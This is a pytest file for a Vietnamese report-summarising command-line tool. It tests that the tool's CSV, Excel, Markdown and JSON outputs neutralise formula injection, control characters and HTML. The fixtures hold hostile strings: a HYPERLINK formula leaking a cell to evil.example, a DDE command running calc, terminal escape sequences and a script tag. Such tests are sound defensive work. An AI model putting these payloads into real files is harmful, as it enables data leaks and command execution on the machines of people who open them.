"""What danvan writes is safe to open: no formula, no control character, no HTML (safe_text.py
and the writers that use it), end to end through the command line with hostile names."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from danvan_cli.text.safe_text import (
    csv_cell,
    csv_cell_read,
    escape_controls,
    markdown_cell,
    plain_in_markdown,
    without_controls,
)
from tests.conftest import HEADER, SMALL_ROWS, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"


def hostile_rows() -> list[list[object]]:
    """SMALL_ROWS with names a spreadsheet program would run as formulas (a tab before one,
    which trimming removes), and a figure typed as a formula (an error, shown as a value)."""
    rows = [list(row) for row in SMALL_ROWS]
    rows[0][2] = rows[1][2] = HYPERLINK
    rows[2][2] = rows[3][2] = "\t" + DDE
    rows[4][1] = rows[5][1] = "+Xã Long Bình"
    rows[4][2] = rows[5][2] = "@SUM(1+1)"
    rows[5][3] = "-Hội Cựu chiến binh"
    return rows


def text_workbook(path: Path, rows: list[list[object]], header: list[str] = HEADER) -> Path:
    """A workbook of HEADER and `rows`, text beginning with "=" kept as text (as Excel
    keeps a cell typed with a leading "'")."""
    workbook = Workbook()
    sheet = workbook.active
    for row in [header, *rows]:
        sheet.append(row)
    for line in sheet.iter_rows():
        for cell in line:
            if cell.data_type == "f":
                cell.data_type = "s"
    workbook.save(path)
    return path


# --- the rules ----------------------------------------------------------------------------


def test_csv_cell_neutralises_what_starts_a_formula_and_reads_back():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
        assert csv_cell_read(csv_cell(text)) == text
    for text in ("Ấp 1", "", "'quoted", "1-2"):
        assert csv_cell(text) == text
        assert csv_cell_read(text) == text


def test_controls_removed_or_shown():
    assert without_controls("Ấp\x1b[31m Đỏ\x07") == "Ấp[31m Đỏ"
    assert escape_controls("Ấp\x1b[31m\x9b\x00") == "Ấp\\x1b[31m\\x9b\\x00"
    assert escape_controls("a\tb\nc") == "a\tb\nc"


def test_markdown_cell_escapes_html_pipes_and_lines():
    assert markdown_cell("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert markdown_cell("a|b\nc\x1b") == "a\\|b c\\x1b"
    assert markdown_cell("Ấp 1 & 2") == "Ấp 1 &amp; 2"


@pytest.mark.parametrize("text", ["Ấp 1", "Ấp\u2028Mới", "Ấp\u2029Mới", "a|b", "a\x85b", "a\tb"])
def test_plain_in_markdown_is_what_markdown_cell_leaves_as_it_is(text):
    assert plain_in_markdown(text) == (markdown_cell(text) == text)


# --- end to end: formulas -----------------------------------------------------------------


def test_xlsx_writes_every_text_cell_as_text(cli, tmp_path):
    """Names, organisations, problem values and file names beginning with = + - @ are text
    in every sheet, the problems sheet included; figures (a negative one too) stay numbers."""
    rows = hostile_rows()
    rows[0][5] = "=1+1"  # members typed as a formula: an error whose value is shown
    rows[2][4] = -3  # branches below zero: an error whose value is a number
    source = text_workbook(tmp_path / "=HYPERLINK(1).xlsx", rows)
    out = tmp_path / "out.xlsx"
    result = cli("summarize", source, "--skip-invalid", "-o", out)
    assert result.exit_code == 1, result.stderr
    workbook = load_workbook(out)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    texts.append(cell.value)
    assert HYPERLINK in texts and DDE in texts and "@SUM(1+1)" in texts
    assert "+Xã Long Bình" in texts and "=1+1" in texts
    problems = workbook.worksheets[-1]
    files = {row[1] for row in problems.iter_rows(min_row=2, values_only=True)}
    assert files == {str(source)}
    values = [row[5] for row in problems.iter_rows(min_row=2, values_only=True)]
    assert -3 in values  # a number, not the text "-3"


def test_csv_neutralises_text_cells_and_csv_raw_keeps_them(cli, tmp_path):
    source = write_csv(tmp_path / "report.csv", hostile_rows())
    out = tmp_path / "out.csv"
    result = cli("summarize", source, "-f", "csv", "-o", out)
    assert result.exit_code == 0, result.stderr
    for text in (result.stdout, out.read_text(encoding="utf-8-sig")):
        villages = {row["village"] for row in csv.DictReader(io.StringIO(text)) if row["village"]}
        assert villages == {"'" + HYPERLINK, "'" + DDE, "'@SUM(1+1)"}
        total = [row for row in csv.DictReader(io.StringIO(text)) if row["level"] == "total"]
        assert total[0]["members"] == "2734"
    raw = cli("summarize", source, "-f", "csv", "--csv-raw")
    villages = {row["village"] for row in csv.DictReader(io.StringIO(raw.stdout))}
    assert HYPERLINK in villages and "+Xã Long Bình" in {
        row["commune"] for row in csv.DictReader(io.StringIO(raw.stdout))
    }


@pytest.mark.parametrize("uneven", [False, True])
def test_a_neutralised_csv_cell_reads_back_as_it_was(cli, tmp_path, uneven):
    """The village cells of danvan's CSV, copied as they are into a report, read back as
    the names they were (also from a file whose rows are not all as wide as its header,
    which is read another way)."""
    source = write_csv(tmp_path / "report.csv", hostile_rows())
    written = cli("summarize", source, "-f", "csv").stdout
    cells = {
        row["village"].lstrip("'"): row["village"]
        for row in csv.DictReader(io.StringIO(written))
        if row["village"]
    }
    assert all(cell.startswith("'") for cell in cells.values())
    rows = [list(row) for row in hostile_rows()]
    for row in rows:
        row[2] = cells[row[2].strip()]
    if uneven:
        rows[-1].append("")
    again = write_csv(tmp_path / "again.csv", rows, HEADER)
    document = json.loads(cli("summarize", again, "-f", "json").stdout)
    villages = {row["village"] for row in document["rollups"]["village"]}
    assert villages == {HYPERLINK, DDE, "@SUM(1+1)"}
    assert document["total"]["members"] == 2734


def test_models_csv_neutralised(cli, tmp_path):
    header = ["STT", "Tên mô hình", "Phường/Xã", "Lĩnh vực", "Cấp", "Kết quả"]
    rows = [
        [1, "Tuyến đường hoa", "=HYPERLINK(1)", "VHXH", "Cấp tỉnh", "Đã công nhận"],
        [2, "Rau sạch", "Xã Thuận Lộc", "Kinh tế", "Cấp tỉnh", "Đăng ký"],
    ]
    path = text_workbook(tmp_path / "mo_hinh_dvk.xlsx", rows, header)
    result = cli("summarize", path, "--kind", "models", "-f", "csv")
    assert result.exit_code == 0, result.stderr
    communes = {row["commune"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert "'=HYPERLINK(1)" in communes and "=HYPERLINK(1)" not in communes


# --- end to end: control characters and Markdown ------------------------------------------

ESCAPES = "\x1b[2J\x1b]0;pwned\x07"  # clears the screen, retitles the window, rings


def test_control_characters_in_names_are_left_out_with_a_warning(cli, tmp_path):
    """A village named with escape sequences: every output is written (openpyxl refused the
    name), none holds a control character, and a warning names the cell."""
    rows = [list(row) for row in SMALL_ROWS]
    rows[0][2] = rows[1][2] = f"Ấp 10{ESCAPES}"
    rows[2][3] = "Hội Nông dân\x07"
    source = write_csv(tmp_path / "report.csv", rows)
    outputs = [tmp_path / f"out.{suffix}" for suffix in ("xlsx", "md", "csv", "json")]
    result = cli("summarize", source, *[a for out in outputs for a in ("-o", out)])
    assert result.exit_code == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("Cảnh báo")]
    assert len(warnings) == 3
    assert warnings[0].startswith(f"Cảnh báo {source}, dòng 2, cột «Thôn»: Tên «Ấp 10\\x1b[2J")
    assert "đọc tên là «Ấp 10[2J]0;pwned»" in warnings[0]
    assert f"{source}, dòng 4, cột «Đoàn thể»" in warnings[2]
    written = [result.stdout, result.stderr, *(out.read_text("utf-8") for out in outputs[1:])]
    workbook = load_workbook(outputs[0])
    written += [
        str(value)
        for sheet in workbook
        for row in sheet.iter_rows(values_only=True)
        for value in row
    ]
    assert not any(c in text for text in written for c in "\x1b\x07")
    document = json.loads(outputs[3].read_text("utf-8"))
    assert "Ấp 10[2J]0;pwned" in {row["village"] for row in document["rollups"]["village"]}
    assert document["total"]["members"] == 2734


def test_markdown_cells_escape_pipes_and_html(cli, tmp_path):
    rows = [list(row) for row in SMALL_ROWS]
    rows[0][2] = rows[1][2] = "<script>alert(1)</script>|x"
    source = write_csv(tmp_path / "report.csv", rows)
    result = cli("summarize", source, "-f", "md", "--level", "village")
    assert result.exit_code == 0, result.stderr
    assert "<script>" not in result.stdout
    line = next(line for line in result.stdout.splitlines() if "alert" in line)
    assert line.startswith("| Huyện Châu Thành | Xã Đông Phước | &lt;script&gt;alert(1)")
    assert "&lt;/script&gt;\\|x | Tất cả | 3 | 1.100 |" in line


def test_models_names_with_control_characters(cli, tmp_path):
    header = ["STT", "Tên mô hình", "Phường/Xã", "Lĩnh vực", "Cấp", "Kết quả"]
    rows = [
        [1, f"Tuyến đường hoa{ESCAPES}", "Xã Thuận Lộc", "VHXH", "Cấp tỉnh", "Đã công nhận"],
        [2, "Rau sạch", "Xã Thuận Lộc", "Kinh tế", "Cấp tỉnh", "Đăng ký"],
    ]
    source = write_csv(tmp_path / "mo_hinh_dvk.csv", rows, header)
    out = tmp_path / "out.xlsx"
    result = cli("summarize", source, "--kind", "models", "-o", out)
    assert result.exit_code == 0, result.stderr
    assert f"Cảnh báo {source}, dòng 2, cột «Tên mô hình»" in result.stderr
    assert "\x1b" not in result.stderr + result.stdout
    assert out.exists()


def test_danvan_reads_its_own_outputs_back_with_the_names_as_they_were(cli, tmp_path):
    """A district's CSV and workbook, given to the province: the neutralised CSV cells and
    the text cells of the workbook read back as the names they were."""
    source = write_csv(tmp_path / "report.csv", hostile_rows())
    for suffix in ("csv", "xlsx"):
        written = tmp_path / f"huyen.{suffix}"
        assert cli("summarize", source, "-o", written).exit_code == 0
        document = json.loads(cli("summarize", written, "-f", "json").stdout)
        villages = {row["village"] for row in document["rollups"]["village"]}
        assert villages == {HYPERLINK, DDE, "@SUM(1+1)"}, suffix
        assert document["total"]["members"] == 2734


def test_json_escapes_the_controls_it_would_write_raw(cli, tmp_path):
    """JSON escapes ESC itself, but wrote DEL and the C1 controls (0x9b: a terminal's CSI)
    as they are: a problem's value now holds them escaped, and reads back the same."""
    rows = [list(row) for row in SMALL_ROWS]
    rows[0][5] = "620\x9b2J\x7f"  # members: not a number, an error showing the value
    source = write_csv(tmp_path / "report.csv", rows)
    for command in (["summarize", "-f", "json"], ["validate", "-f", "json"]):
        result = cli(*command, source)
        assert result.exit_code == 1
        assert "\x9b" not in result.stdout and "\x7f" not in result.stdout
        assert "620\\u009b2J\\u007f" in result.stdout
        [problem] = json.loads(result.stdout)["problems"]
        assert (problem["row"], problem["value"]) == (2, "620\x9b2J\x7f")
